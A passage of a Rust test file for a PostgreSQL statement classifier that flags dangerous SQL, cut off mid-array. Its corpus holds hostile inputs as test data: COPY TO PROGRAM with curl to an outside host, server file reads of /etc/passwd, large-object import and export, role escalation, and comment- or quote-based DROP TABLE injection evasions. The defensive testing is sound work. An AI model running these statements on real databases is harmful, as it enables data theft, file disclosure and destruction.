use super::*;

use StatementClass as C;

/// Analyse a text holding exactly one statement.
fn one(sql: &str) -> Analysis {
    let parsed = analyze(sql);
    assert_eq!(parsed.statements.len(), 1, "{sql}: {parsed:#?}");
    parsed.statements.into_iter().next().unwrap()
}

fn classes(list: &[StatementClass]) -> BTreeSet<StatementClass> {
    list.iter().copied().collect()
}

fn set(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|s| s.to_string()).collect()
}

/// Classes written as `read+delete` (the serde names).
fn parse_classes(spec: &str) -> BTreeSet<StatementClass> {
    spec.split('+')
        .map(|name| {
            serde_json::from_str(&format!("\"{name}\""))
                .unwrap_or_else(|e| panic!("bad class {name:?} in corpus: {e}"))
        })
        .collect()
}

/// Checks written as `r=t,u; w=x; f=pg_read_file; d=copy program; d0; c=a,b`:
/// `r`, `w`, `f`, `c` compare whole sets (empty after `=` means empty), `d` requires each
/// reason listed, `d0` requires no reason at all, `p`/`e` the prepared/executed name.
fn check_extra(sql: &str, a: &Analysis, spec: &str) {
    for item in spec.split(';').map(str::trim).filter(|s| !s.is_empty()) {
        if item == "d0" {
            assert!(
                a.dangerous.is_empty(),
                "{sql}: expected no dangerous reason, got {:?}",
                a.dangerous
            );
            continue;
        }
        let (key, value) = item
            .split_once('=')
            .unwrap_or_else(|| panic!("bad check {item:?}"));
        let values: BTreeSet<String> = value
            .split(',')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(String::from)
            .collect();
        match key {
            "r" => assert_eq!(a.tables_read, values, "{sql}: tables_read"),
            "w" => assert_eq!(a.tables_written, values, "{sql}: tables_written"),
            "f" => assert_eq!(a.functions, values, "{sql}: functions"),
            "c" => assert_eq!(a.columns, values, "{sql}: columns"),
            "d" => {
                for v in &values {
                    assert!(
                        a.dangerous.contains(v),
                        "{sql}: missing reason {v:?} in {:?}",
                        a.dangerous
                    );
                }
            }
            "p" => assert_eq!(a.prepared.as_deref(), Some(value), "{sql}: prepared"),
            "e" => assert_eq!(a.executes.as_deref(), Some(value), "{sql}: executes"),
            other => panic!("bad check key {other:?}"),
        }
    }
}

/// (SQL, expected classes, extra checks). Each SQL text is one statement.
const CORPUS: &[(&str, &str, &str)] = &[
    // --- reads
    ("SELECT 1", "read", "r=; w=; d0"),
    ("select * from T where A = 1", "read", "r=t; c=a; d0"),
    ("SELECT * FROM public.users u JOIN \"Orders\" o ON o.uid = u.id", "read", "r=public.users,Orders; c=o.uid,u.id"),
    ("VALUES (1, 'a'), (2, 'b')", "read", "r="),
    ("TABLE accounts", "read", "r=accounts"),
    ("TABLE ONLY s.accounts", "read", "r=s.accounts"),
    ("SHOW search_path", "read", "d0"),
    ("SELECT * FROM t WHERE a IN (SELECT b FROM u WHERE EXISTS (SELECT 1 FROM v))", "read", "r=t,u,v"),
    ("SELECT pg_sleep(1)", "read", "f=pg_sleep; d0"),
    ("SELECT count(*) FROM t GROUP BY a HAVING max(b) > 1 ORDER BY lower(c)", "read", "f=count,max,lower"),
    // Row locks are writes (issue 14): the locked tables are written.
    ("SELECT * FROM t FOR UPDATE", "read+update", "r=t; w=t"),
    ("SELECT * FROM t, u FOR SHARE OF u", "read+update", "r=t,u; w=u"),
    // Sequences and advisory locks are writes; functions that may have side effects are
    // a class of their own; IMMUTABLE/STABLE built-ins and harmless volatile ones are not.
    ("SELECT nextval('s')", "read+update", "f=nextval"),
    ("SELECT pg_advisory_lock(1)", "read+update", "f=pg_advisory_lock"),
    ("SELECT purge()", "read+volatile_function", "f=purge"),
    ("SELECT public.lower('x')", "read+volatile_function", "f=public.lower"),
    ("SELECT lower('x'), now(), random(), coalesce(1, 2)", "read", "d0"),
    ("SELECT pg_catalog.lower('x')", "read", "d0"),
    ("SELECT * FROM generate_series(1, 10) g", "read", "r=; f=generate_series"),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "read", "r=t"),
    ("FETCH 10 FROM c", "read", ""),
    ("LISTEN events", "read", ""),
    ("UNLISTEN *", "read", ""),
    // --- writes
    ("INSERT INTO t (a, b) VALUES (1, 2)", "insert", "w=t; r=; c=a,b"),
    ("INSERT INTO t SELECT * FROM u", "insert+read", "w=t; r=u"),
    ("INSERT INTO t SELECT * FROM t", "insert+read", "w=t; r=t"),
    ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a", "insert+update", "w=t"),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert", "w=t"),
    ("UPDATE t SET a = 1 WHERE id = 2", "update", "w=t; r=; c=a,id"),
    ("UPDATE ONLY t SET a = DEFAULT", "update", "w=t; c=a"),
    ("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "update+read", "w=t; r=u"),
    ("UPDATE t SET a = (SELECT max(a) FROM u)", "update+read", "w=t; r=u; f=max"),
    ("DELETE FROM t WHERE id = 1", "delete", "w=t; r="),
    ("DELETE FROM s.t USING u WHERE t.id = u.id RETURNING t.*", "delete+read", "w=s.t; r=u"),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a \
         WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
        "merge+insert+update+read",
        "w=t; r=s",
    ),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge+delete+read", "w=t; r=s"),
    // --- hidden writes
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "read+delete", "w=t; r="),
    (
        "WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM a, b",
        "read+update",
        "w=t; r=",
    ),
    (
        "SELECT * FROM (WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT * FROM i) s",
        "read+insert",
        "w=log; r=",
    ),
    ("WITH x AS (SELECT 1) DELETE FROM x", "delete", "w=x; r="),
    ("SELECT * INTO newt FROM t", "read+ddl", "w=newt; r=t"),
    ("SELECT a INTO TEMP s.newt FROM t", "read+ddl", "w=s.newt; r=t; c=a"),
    ("CREATE TABLE n AS SELECT * FROM t", "ddl+read", "w=n; r=t"),
    ("CREATE TABLE n AS SELECT 1", "ddl", "w=n; r="),
    ("EXPLAIN ANALYZE DELETE FROM t", "explain+delete", "w=t"),
    ("EXPLAIN (ANALYZE) DELETE FROM t", "explain+delete", "w=t"),
    ("EXPLAIN (ANALYZE on, BUFFERS) UPDATE t SET a = 1", "explain+update", "w=t"),
    ("EXPLAIN (FORMAT JSON, ANALYZE true) INSERT INTO t VALUES (1)", "explain+insert", "w=t"),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", "explain", "w=; r=t"),
    ("EXPLAIN DELETE FROM t", "explain", "w=; r=t"),
    ("EXPLAIN SELECT * FROM t", "explain", "r=t"),
    ("EXPLAIN ANALYZE SELECT * FROM t", "explain+read", "r=t"),
    ("EXPLAIN SELECT pg_read_file('/etc/passwd')", "explain", "d=server file access: pg_read_file"),
    ("EXPLAIN (ANALYSE) DELETE FROM t", "explain+delete", "w=t"),
    ("EXPLAIN (ANALYZE 1) DELETE FROM t", "explain+delete", "w=t"),
    ("EXPLAIN (ANALYZE off) DELETE FROM t", "explain", "w=; r=t"),
    ("EXPLAIN ANALYZE EXECUTE p(1)", "explain+call", "e=p"),
    ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "insert", "w=t; r="),
    ("SELECT 1 UNION TABLE secrets", "read", "r=secrets"),
    // --- DDL
    ("CREATE TABLE t (id int PRIMARY KEY, a text DEFAULT 'x')", "ddl", "w=t; d0"),
    ("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", "ddl+volatile_function", "w=t; d=server file access: pg_read_file"),
    ("ALTER TABLE t ADD COLUMN b int", "ddl", "w=t"),
    ("ALTER TABLE t ALTER COLUMN a SET DEFAULT lo_import('/etc/passwd')", "ddl+volatile_function", "w=t; d=large object: lo_import"),
    ("ALTER TABLE t RENAME TO u", "ddl", "w=t"),
    ("DROP TABLE IF EXISTS a.b, c CASCADE", "ddl", "w=a.b,c"),
    ("DROP VIEW v", "ddl", "w=v"),
    ("TRUNCATE t, u", "ddl+delete", "w=t,u"),
    ("COMMENT ON TABLE t IS 'DROP TABLE t'", "ddl", "w=t"),
    ("CREATE INDEX i ON t (lower(a))", "ddl", "w=i,t; f=lower"),
    ("CREATE VIEW v AS SELECT * FROM secrets", "ddl+read", "w=v; r=secrets"),
    ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", "ddl+read", "w=mv; r=t"),
    ("REFRESH MATERIALIZED VIEW mv", "ddl", "w=mv"),
    ("CREATE SCHEMA s", "ddl", "w=s"),
    ("CREATE SEQUENCE s", "ddl", "w=s"),
    ("VACUUM t", "ddl", "w=t"),
    ("VACUUM (VERBOSE, ANALYZE) t", "ddl", ""),
    ("ANALYZE t", "ddl", "w=t"),
    ("REINDEX TABLE t", "ddl", "d0"),
    ("CLUSTER t USING t_pkey", "ddl", ""),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; RETURN 1; END $$",
        "ddl",
        "w=f; d=function body (opaque)",
    ),
    (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT pg_read_file(''/etc/passwd'')'",
        "read+ddl+volatile_function",
        "w=f; f=pg_read_file; d=function body (opaque),security definer function,server file access: pg_read_file",
    ),
    ("CREATE EXTENSION dblink", "ddl", "d=extension: dblink"),
    ("LOAD 'plpgsql'", "ddl", "d=load library: plpgsql"),
    ("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit()", "ddl+volatile_function", "w=t,tr; f=audit"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "ddl", "d=ALTER SYSTEM"),
    ("CREATE SERVER x FOREIGN DATA WRAPPER postgres_fdw", "ddl", "d=foreign data"),
    // --- DCL
    ("GRANT SELECT ON t TO bob", "dcl", "w=t"),
    ("GRANT admin TO bob", "dcl", ""),
    ("REVOKE ALL ON t FROM bob", "dcl", "w=t"),
    ("CREATE ROLE r LOGIN", "dcl", ""),
    ("ALTER ROLE r SUPERUSER", "dcl", ""),
    ("DROP ROLE r", "dcl", "w="),
    ("ALTER USER u WITH SUPERUSER", "dcl", ""),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "dcl", ""),
    ("SET ROLE admin", "dcl", "d=role change: SET ROLE"),
    ("SET LOCAL ROLE admin", "dcl", "d=role change: SET ROLE"),
    ("SET ROLE NONE", "dcl", "d=role change: SET ROLE"),
    ("RESET ROLE", "dcl", "d=role change: RESET role"),
    ("SET SESSION AUTHORIZATION 'bob'", "dcl", "d=role change: SET SESSION AUTHORIZATION"),
    ("RESET SESSION AUTHORIZATION", "dcl", "d=role change: RESET SESSION AUTHORIZATION"),
    ("SET role = 'admin'", "dcl", "d=role change: SET role"),
    ("SET \"ROLE\" TO 'admin'", "dcl", "d=role change: SET role"),
    ("SET session_authorization = 'bob'", "dcl", "d=role change: SET session_authorization"),
    ("DISCARD ALL", "dcl", "d=role change: DISCARD ALL"),
    // --- COPY
    ("COPY t FROM STDIN", "copy_from", "w=t; r=; d0"),
    ("COPY t (a, b) FROM STDIN WITH (FORMAT csv)", "copy_from", "w=t; c=a,b"),
    ("COPY t TO STDOUT", "copy_to", "r=t; w=; d0"),
    ("COPY t TO '/tmp/x'", "copy_to", "r=t; d=server file access: COPY"),
    ("COPY t FROM '/etc/passwd'", "copy_from", "w=t; d=server file access: COPY"),
    ("COPY t TO PROGRAM 'curl -d @- http://x'", "copy_to+copy_program", "r=t; d=copy program"),
    ("COPY t FROM PROGRAM 'id'", "copy_from+copy_program", "w=t; d=copy program"),
    ("COPY (SELECT * FROM s JOIN u USING (id)) TO STDOUT", "copy_to+read", "r=s,u; w="),
    // --- calls
    ("CALL proc(1)", "call+volatile_function", "f=proc"),
    ("CALL pg_catalog.pg_terminate_backend(42)", "call+volatile_function", "d=backend control: pg_terminate_backend"),
    ("DO $$ BEGIN DELETE FROM t; END $$", "call", "d=DO block (opaque)"),
    ("DO LANGUAGE plpgsql 'BEGIN NULL; END'", "call", "d=DO block (opaque)"),
    ("EXECUTE p(1)", "call", "e=p"),
    ("NOTIFY ch, 'x'", "call", ""),
    ("PREPARE p AS DELETE FROM t WHERE id = $1", "delete", "w=t; p=p"),
    ("PREPARE q (int) AS SELECT * FROM t WHERE id = $1", "read", "r=t; p=q"),
    // --- settings and transactions
    ("SET search_path TO public", "set_reset", "c=; d0"),
    ("SET LOCAL statement_timeout = '5s'", "set_reset", "d0"),
    ("SET TIME ZONE 'UTC'", "set_reset", ""),
    ("RESET ALL", "set_reset", ""),
    ("RESET search_path", "set_reset", ""),
    ("SET session_replication_role = replica", "set_reset", "d=config change: session_replication_role"),
    ("SET default_transaction_read_only = off", "set_reset", "d=config change: default_transaction_read_only"),
    ("DEALLOCATE p", "set_reset", ""),
    ("DEALLOCATE ALL", "set_reset", ""),
    ("DISCARD PLANS", "set_reset", ""),
    ("BEGIN", "transaction", "d0"),
    ("BEGIN READ WRITE", "transaction", "d=config change: READ WRITE"),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction", ""),
    ("COMMIT", "transaction", ""),
    ("END", "transaction", ""),
    ("ROLLBACK", "transaction", ""),
    ("ABORT", "transaction", ""),
    ("SAVEPOINT a", "transaction", ""),
    ("RELEASE a", "transaction", ""),
    ("ROLLBACK TO SAVEPOINT a", "transaction", ""),
    ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", "transaction", ""),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "transaction", "w=t"),
    // --- dangerous functions anywhere
    ("SELECT pg_read_file('/etc/passwd')", "read+volatile_function", "f=pg_read_file; d=server file access: pg_read_file"),
    ("SELECT * FROM pg_read_file('/etc/passwd')", "read+volatile_function", "r=; f=pg_read_file; d=server file access: pg_read_file"),
    ("SELECT PG_CATALOG.PG_READ_BINARY_FILE('x')", "read+volatile_function", "f=pg_catalog.pg_read_binary_file; d=server file access: pg_read_binary_file"),
    ("SELECT \"pg_ls_dir\"('.')", "read+volatile_function", "d=server file access: pg_ls_dir"),
    ("SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')", "read+volatile_function", "d=large object: lo_export,large object: lo_import"),
    ("SELECT * FROM dblink('host=x', 'select 1') AS r(a int)", "read+volatile_function", "d=dblink: dblink"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE t')", "read+volatile_function", "d=dblink: dblink_exec"),
    ("SELECT set_config('search_path', 'x', false)", "read+volatile_function", "d=config change: set_config"),
    ("SELECT set_config('role', 'postgres', false)", "read+volatile_function", "d=config change: set_config,role change: set_config"),
    ("SELECT set_config('ROLE', 'postgres', false)", "read+volatile_function", "d=role change: set_config"),
    ("SELECT set_config(current_setting('x'), 'postgres', false)", "read+volatile_function", "d=role change: set_config"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "read+volatile_function", "r=pg_stat_activity; d=backend control: pg_terminate_backend"),
    ("SELECT pg_reload_conf()", "read+volatile_function", "d=backend control: pg_reload_conf"),
    ("SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')", "read+volatile_function", "d=dynamic SQL: query_to_xml"),
    ("SELECT table_to_xml('secrets', true, true, '')", "read", "d=hidden read: table_to_xml"),
    ("SELECT setval('s', 1)", "read+update", "d=sequence change: setval"),
    ("SELECT * FROM t WHERE a = (SELECT pg_read_file('x'))", "read+volatile_function", "r=t; d=server file access: pg_read_file"),
    ("SELECT * FROM t ORDER BY pg_read_file('x')", "read+volatile_function", "d=server file access: pg_read_file"),
    ("SELECT coalesce(a, lower(pg_read_file('x'))) FROM t", "read+volatile_function", "d=server file access: pg_read_file"),
    ("INSERT INTO t VALUES (pg_read_file('x'))", "insert+volatile_function", "d=server file access: pg_read_file"),
    ("UPDATE t SET a = 1 WHERE b = lo_get(1)", "update+volatile_function", "d=large object: lo_get"),
    ("WITH x AS (SELECT pg_read_file('x')) SELECT * FROM x", "read+volatile_function", "r=; d=server file access: pg_read_file"),
    ("CALL p(pg_read_file('x'))", "call+volatile_function", "d=server file access: pg_read_file"),
    ("EXECUTE p(pg_read_file('x'))", "call+volatile_function", "d=server file access: pg_read_file"),
    ("SELECT * FROM t1, LATERAL pg_read_file('x') f", "read+volatile_function", "r=t1; d=server file access: pg_read_file"),
    ("SELECT * FROM unnest(ARRAY[pg_read_file('x')])", "read+volatile_function", "r=; d=server file access: pg_read_file"),
    (
        "SELECT * FROM XMLTABLE('/r' PASSING pg_read_file('x')::xml COLUMNS a int)",
        "read+volatile_function",
        "d=server file access: pg_read_file",
    ),
    ("SELECT count(*) FILTER (WHERE pg_read_file('x') IS NULL) FROM t", "read+volatile_function", "f=count,pg_read_file"),
    (
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_read_file('x')::int) FROM t",
        "read+volatile_function",
        "d=server file access: pg_read_file",
    ),
    ("SELECT CAST(substring(pg_read_file('x') FROM 1 FOR 2) AS int)", "read+volatile_function", "d=server file access: pg_read_file"),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN pg_read_file('x')::int",
        "ddl+volatile_function",
        "w=f; d=server file access: pg_read_file",
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
        "ddl+delete+read",
        "w=f,t",
    ),
    // --- evasions
    ("/* DROP TABLE t; */ SELECT 1", "read", "w="),
    ("-- DROP TABLE t;\nSELECT 1", "read", "w="),
    ("SELECT 1 /* nested /* DROP TABLE t; */ still a comment; */", "read", "w="),
    ("SELECT 1 -- ; DROP TABLE t", "read", "w="),
    ("SELECT * FROM \"DROP\"", "read", "r=DROP; w="),
    ("SELECT \"DELETE\" FROM \"Table\"", "read", "r=Table; c=DELETE"),
    ("SELECT * FROM \"a.b\"", "read", "r=\"a.b\""),
    ("dElEtE fRoM SomeTable", "delete", "w=sometable"),
    ("SELECT E'\\'; DROP TABLE t; --'", "read", "w="),
    ("SELECT $$; DROP TABLE t; $$", "read", "w="),
    ("SELECT $x$ $$; DROP TABLE t; $$ $x$", "read", "w="),
    ("SELECT ';DELETE FROM t;'", "read", "w="),
    ("SELECT 'it''s; DROP TABLE t'", "read", "w="),
    ("SELECT U&'\\0044ROP TABLE t'", "read", "w="),
];

#[test]
fn corpus() {
    assert!(CORPUS.len() >= 70, "corpus has {} statements", CORPUS.len());
    for (sql, expected, extra) in CORPUS {
        let parsed = analyze(sql);
        assert_eq!(parsed.error, None, "{sql}: {parsed:#?}");
        assert_eq!(parsed.statements.len(), 1, "{sql}: {parsed:#?}");
        let a = &parsed.statements[0];
        assert_eq!(a.classes, parse_classes(expected), "{sql}: {a:#?}");
        check_extra(sql, a, extra);
    }
}

// ---------------------------------------------------------------------------------------------
// Multiple statements

#[test]
fn one_analysis_per_statement() {
    let parsed = analyze("SELECT 1; DELETE FROM t; ; INSERT INTO u VALUES (1);");
    assert_eq!(parsed.error, None);
    let got: Vec<_> = parsed
        .statements
        .iter()
        .map(|a| a.classes.clone())
        .collect();
    assert_eq!(
        got,
        vec![
            classes(&[C::Read]),
            classes(&[C::Delete]),
            classes(&[C::Insert])
        ]
    );
    assert_eq!(parsed.statements[1].text, "DELETE FROM t");
    assert_eq!(parsed.statements[1].tables_written, set(&["t"]));
}

#[test]
fn standard_strings_do_not_hide_a_second_statement() {
    // standard_conforming_strings: a backslash does not escape the quote, as in PostgreSQL.
    let parsed = analyze(r"SELECT 'a\'; DROP TABLE t; --'");
    assert_eq!(parsed.statements.len(), 2, "{parsed:#?}");
    assert_eq!(parsed.statements[1].classes, classes(&[C::Ddl]));
    assert_eq!(parsed.statements[1].tables_written, set(&["t"]));
}

#[test]
fn do_block_among_other_statements() {
    let parsed = analyze("SELECT 1; DO $$ BEGIN PERFORM 1; DELETE FROM t; END $$; DELETE FROM u");
    assert_eq!(parsed.error, None, "{parsed:#?}");
    let got: Vec<_> = parsed
        .statements
        .iter()
        .map(|a| a.classes.clone())
        .collect();
    assert_eq!(
        got,
        vec![
            classes(&[C::Read]),
            classes(&[C::Call]),
            classes(&[C::Delete])
        ]
    );
    assert_eq!(
        parsed.statements[1].text,
        "DO $$ BEGIN PERFORM 1; DELETE FROM t; END $$"
    );
    assert!(parsed.statements[1].dangerous.contains("DO block (opaque)"));
    assert!(!parsed.has_unknown());
}

#[test]
fn one_unparseable_statement_does_not_hide_the_others() {
    let parsed = analyze("SELECT 1;\nFROBNICATE the database;\nDELETE FROM t");
    assert!(parsed.error.is_some());
    assert!(parsed.has_unknown());
    let got: Vec<_> = parsed
        .statements
        .iter()
        .map(|a| a.classes.clone())
        .collect();
    assert_eq!(
        got,
        vec![
            classes(&[C::Read]),
            classes(&[C::Unknown]),
            classes(&[C::Delete])
        ]
    );
    assert_eq!(parsed.statements[1].text, "FROBNICATE the database");
    assert!(parsed.statements[1].dangerous.contains("unparsed"));
}

#[test]
fn raw_text_of_statements_not_parsed_is_exact() {
    let parsed = analyze("SELECT 'é€😀';\tFROB  x;\r\nDO $$ é $$; SELECT 2\n");
    let texts: Vec<_> = parsed.statements.iter().map(|a| a.text.as_str()).collect();
    assert_eq!(
        texts,
        ["SELECT 'é€😀'", "FROB  x", "DO $$ é $$", "SELECT 2"]
    );
    assert!(parsed.error.as_deref().unwrap().contains("FROB"));
}

#[test]
fn unparseable_text_is_unknown_with_the_raw_text() {
    for sql in [
        "SELECT 'unterminated",
        "SELECT * FROM",
        "DEL/**/ETE FROM t",
        "SELECT * FROM U&\"d\\0061ta\"",
        "CHECKPOINT",
        "FROBNICATE",
    ] {
        let parsed = analyze(sql);
        assert!(parsed.error.is_some(), "{sql}: {parsed:#?}");
        assert_eq!(parsed.statements.len(), 1, "{sql}");
        let a = &parsed.statements[0];
        assert!(a.classes.contains(&C::Unknown), "{sql}: {a:#?}");
        assert!(a.dangerous.contains("unparsed"), "{sql}");
        assert_eq!(a.text, sql);
    }
}

#[test]
fn unparsed_statements_keep_hints() {
    let a = one("CREATE USER u WITH PASSWORD 'x'");
    assert_eq!(a.classes, classes(&[C::Dcl, C::Unknown]));
    let a = one("SET ROLE TO admin");
    assert_eq!(a.classes, classes(&[C::Dcl, C::Unknown]));
    assert!(a.dangerous.contains("role change: SET ROLE"));
    let a = one("DO 42");
    assert_eq!(a.classes, classes(&[C::Call, C::Unknown]));
    assert!(a.dangerous.contains("DO block (opaque)"));
    let a = one("REINDEX TABLE t WHERE pg_read_file('x') IS NULL");
    assert!(a.classes.contains(&C::Unknown), "{a:#?}");
}

#[test]
fn empty_text_has_no_statement() {
    for sql in ["", "   ", ";", "-- nothing\n", "/* nothing */ ;"] {
        let parsed = analyze(sql);
        assert_eq!(
            parsed,
            Parsed {
                statements: vec![],
                error: None,
                reads_literals: false,
                refusal: None,
            },
            "{sql:?}"
        );
    }
}

#[test]
fn inline_copy_data_is_unknown() {
    // sqlparser takes the text after `COPY … FROM STDIN;` as COPY data; PostgreSQL runs it
    // as SQL (the data comes through the COPY sub-protocol): the texts disagree, fail closed.
    for sql in [
        "COPY t FROM STDIN;\nDROP TABLE users;",
        "COPY t FROM STDIN;\n1\tx\n\\.\nSELECT 1",
    ] {
        let parsed = analyze(sql);
        assert!(parsed.has_unknown(), "{sql}: {parsed:#?}");
        assert!(
            parsed.error.as_deref().unwrap().contains("COPY"),
            "{parsed:#?}"
        );
    }
    // On one line the rest is tokenized as SQL, which is what PostgreSQL does too.
    let parsed = analyze("COPY t FROM STDIN; DROP TABLE users");
    assert_eq!(parsed.statements.len(), 2, "{parsed:#?}");
    assert_eq!(parsed.statements[1].classes, classes(&[C::Ddl]));
}

// ---------------------------------------------------------------------------------------------
// Names and CTE scoping

#[test]
fn names_are_folded_like_postgres() {
    let a = one("SELECT Foo.\"Bar\" FROM Public.\"MyTable\" AS Foo, \"x\"\"y\"");
    assert_eq!(a.tables_read, set(&["public.MyTable", "\"x\"\"y\""]));
    assert_eq!(a.columns, set(&["foo.Bar"]));
}

#[test]
fn cte_names_are_not_tables() {
    let a = one("WITH x AS (SELECT * FROM real_t) SELECT * FROM x JOIN other ON true");
    assert_eq!(a.tables_read, set(&["real_t", "other"]));
    // Visible in nested subqueries of the main query.
    let a = one("WITH x AS (SELECT 1) SELECT (SELECT count(*) FROM x)");
    assert_eq!(a.tables_read, set(&[]));
    // A qualified name is never a CTE.
    let a = one("WITH x AS (SELECT 1) SELECT * FROM public.x");
    assert_eq!(a.tables_read, set(&["public.x"]));
}

#[test]
fn cte_scoping_follows_postgres() {
    // Without RECURSIVE a CTE body sees only the CTEs before it: `secrets` inside is the table.
    let a = one("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
    assert_eq!(a.tables_read, set(&["secrets"]));
    let a = one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b");
    assert_eq!(a.tables_read, set(&["b"]));
    // With RECURSIVE a CTE sees itself.
    let a = one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r");
    assert_eq!(a.tables_read, set(&[]));
    // A CTE defined in a subquery is not visible outside it.
    let a = one("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) s, t");
    assert_eq!(a.tables_read, set(&["t"]));
}

#[test]
fn nested_data_modifying_ctes() {
    let a = one(
        "WITH a AS (SELECT * FROM (WITH b AS (DELETE FROM t1 RETURNING *) SELECT * FROM b) x), \
         c AS (INSERT INTO t2 SELECT * FROM a RETURNING *) SELECT * FROM c",
    );
    assert_eq!(a.classes, classes(&[C::Read, C::Insert, C::Delete]));
    assert_eq!(a.tables_written, set(&["t1", "t2"]));
}

// ---------------------------------------------------------------------------------------------
// Transformed columns

/// (SQL, expected `transformed`, exactly).
const TRANSFORMED: &[(&str, &[&str])] = &[
    ("SELECT concat(ssn) FROM customers", &["ssn"]),
    ("SELECT ssn || '' FROM customers", &["ssn"]),
    (
        "SELECT ssn OPERATOR(pg_catalog.||) '' FROM customers",
        &["ssn"],
    ),
    ("SELECT upper(email) FROM customers", &["email"]),
    ("SELECT upper(concat(ssn)) FROM customers", &["ssn"]),
    ("SELECT lower(trim(email)) FROM customers", &["email"]),
    (
        "SELECT substring(ssn from 1 for 1) FROM customers",
        &["ssn"],
    ),
    ("SELECT substring(ssn, 1, 1) FROM customers", &["ssn"]),
    (
        "SELECT id FROM customers WHERE substring(ssn, 1, 1) = '1'",
        &["ssn"],
    ),
    ("SELECT id FROM customers ORDER BY md5(ssn)", &["ssn"]),
    ("SELECT ssn::text FROM customers", &["ssn"]),
    ("SELECT CAST(ssn AS text) FROM customers", &["ssn"]),
    ("SELECT c.ssn::text FROM customers c", &["c.ssn"]),
    (
        "SELECT \"SSN\"::text, Email::text FROM customers",
        &["SSN", "email"],
    ),
    // Whole rows: as written, and as `t.*` when the name is a relation of the statement.
    ("SELECT row_to_json(t) FROM customers t", &["t", "t.*"]),
    ("SELECT json_agg(c) FROM customers c", &["c", "c.*"]),
    (
        "SELECT row_to_json(customers) FROM public.customers",
        &["customers", "customers.*"],
    ),
    (
        "SELECT to_jsonb(customers.*) FROM customers",
        &["customers.*"],
    ),
    ("SELECT to_jsonb(c.*) FROM customers c", &["c.*"]),
    ("SELECT (c.*)::text FROM customers c", &["c.*"]),
    ("SELECT c::text FROM customers c", &["c", "c.*"]),
    // Not a relation of the statement: a column.
    ("SELECT array_agg(email) FROM customers", &["email"]),
    // A whole row as a value hides its column names even without a function.
    ("SELECT c FROM customers c", &["c", "c.*"]),
    (
        "WITH x AS (SELECT ssn FROM customers) SELECT json_agg(x) FROM x",
        &["x", "x.*"],
    ),
    (
        "SELECT (SELECT json_agg(o) FROM orders o WHERE o.cid = c.id) FROM customers c",
        &["o", "o.*"],
    ),
    // Aggregate clauses and windows.
    (
        "SELECT string_agg(name, ',' ORDER BY ssn) FILTER (WHERE email <> '') FROM customers",
        &["name", "ssn", "email"],
    ),
    (
        "SELECT lag(ssn) OVER (PARTITION BY region) FROM customers",
        &["ssn", "region"],
    ),
    (
        "SELECT count(ssn), count(DISTINCT email) FROM customers",
        &["ssn", "email"],
    ),
    // Subqueries inside a transformation, CTEs, subqueries of WHERE.
    (
        "SELECT upper((SELECT ssn FROM customers LIMIT 1))",
        &["ssn"],
    ),
    ("SELECT ARRAY(SELECT ssn FROM customers)", &["ssn"]),
    ("SELECT ARRAY[ssn] FROM customers", &["ssn"]),
    ("SELECT ROW(ssn, 1) FROM customers", &["ssn"]),
    (
        "WITH x AS (SELECT upper(ssn) AS u FROM customers) SELECT u FROM x",
        &["ssn"],
    ),
    (
        "SELECT id FROM t WHERE id IN (SELECT id FROM customers WHERE left(ssn, 1) = '1')",
        &["ssn"],
    ),
    // Set-returning functions in FROM (`u` names both the function's relation and its column).
    (
        "SELECT u FROM customers c, LATERAL upper(c.ssn) u",
        &["c.ssn", "u", "u.*"],
    ),
    (
        "SELECT v FROM customers c, unnest(c.phones) v",
        &["c.phones", "v", "v.*"],
    ),
    // Pattern matches: a character-by-character oracle.
    ("SELECT id FROM customers WHERE email LIKE 'a%'", &["email"]),
    (
        "SELECT id FROM customers WHERE email NOT ILIKE 'a%'",
        &["email"],
    ),
    (
        "SELECT id FROM customers WHERE ssn SIMILAR TO '1%'",
        &["ssn"],
    ),
    ("SELECT id FROM customers WHERE ssn ~ '^1'", &["ssn"]),
    ("SELECT id FROM customers WHERE ssn !~* '^1'", &["ssn"]),
    ("SELECT id FROM customers WHERE ssn ~~ '1%'", &["ssn"]),
    ("SELECT id FROM customers WHERE ssn ^@ '1'", &["ssn"]),
    (
        "SELECT id FROM customers WHERE ssn LIKE ANY (ARRAY['1%', '2%'])",
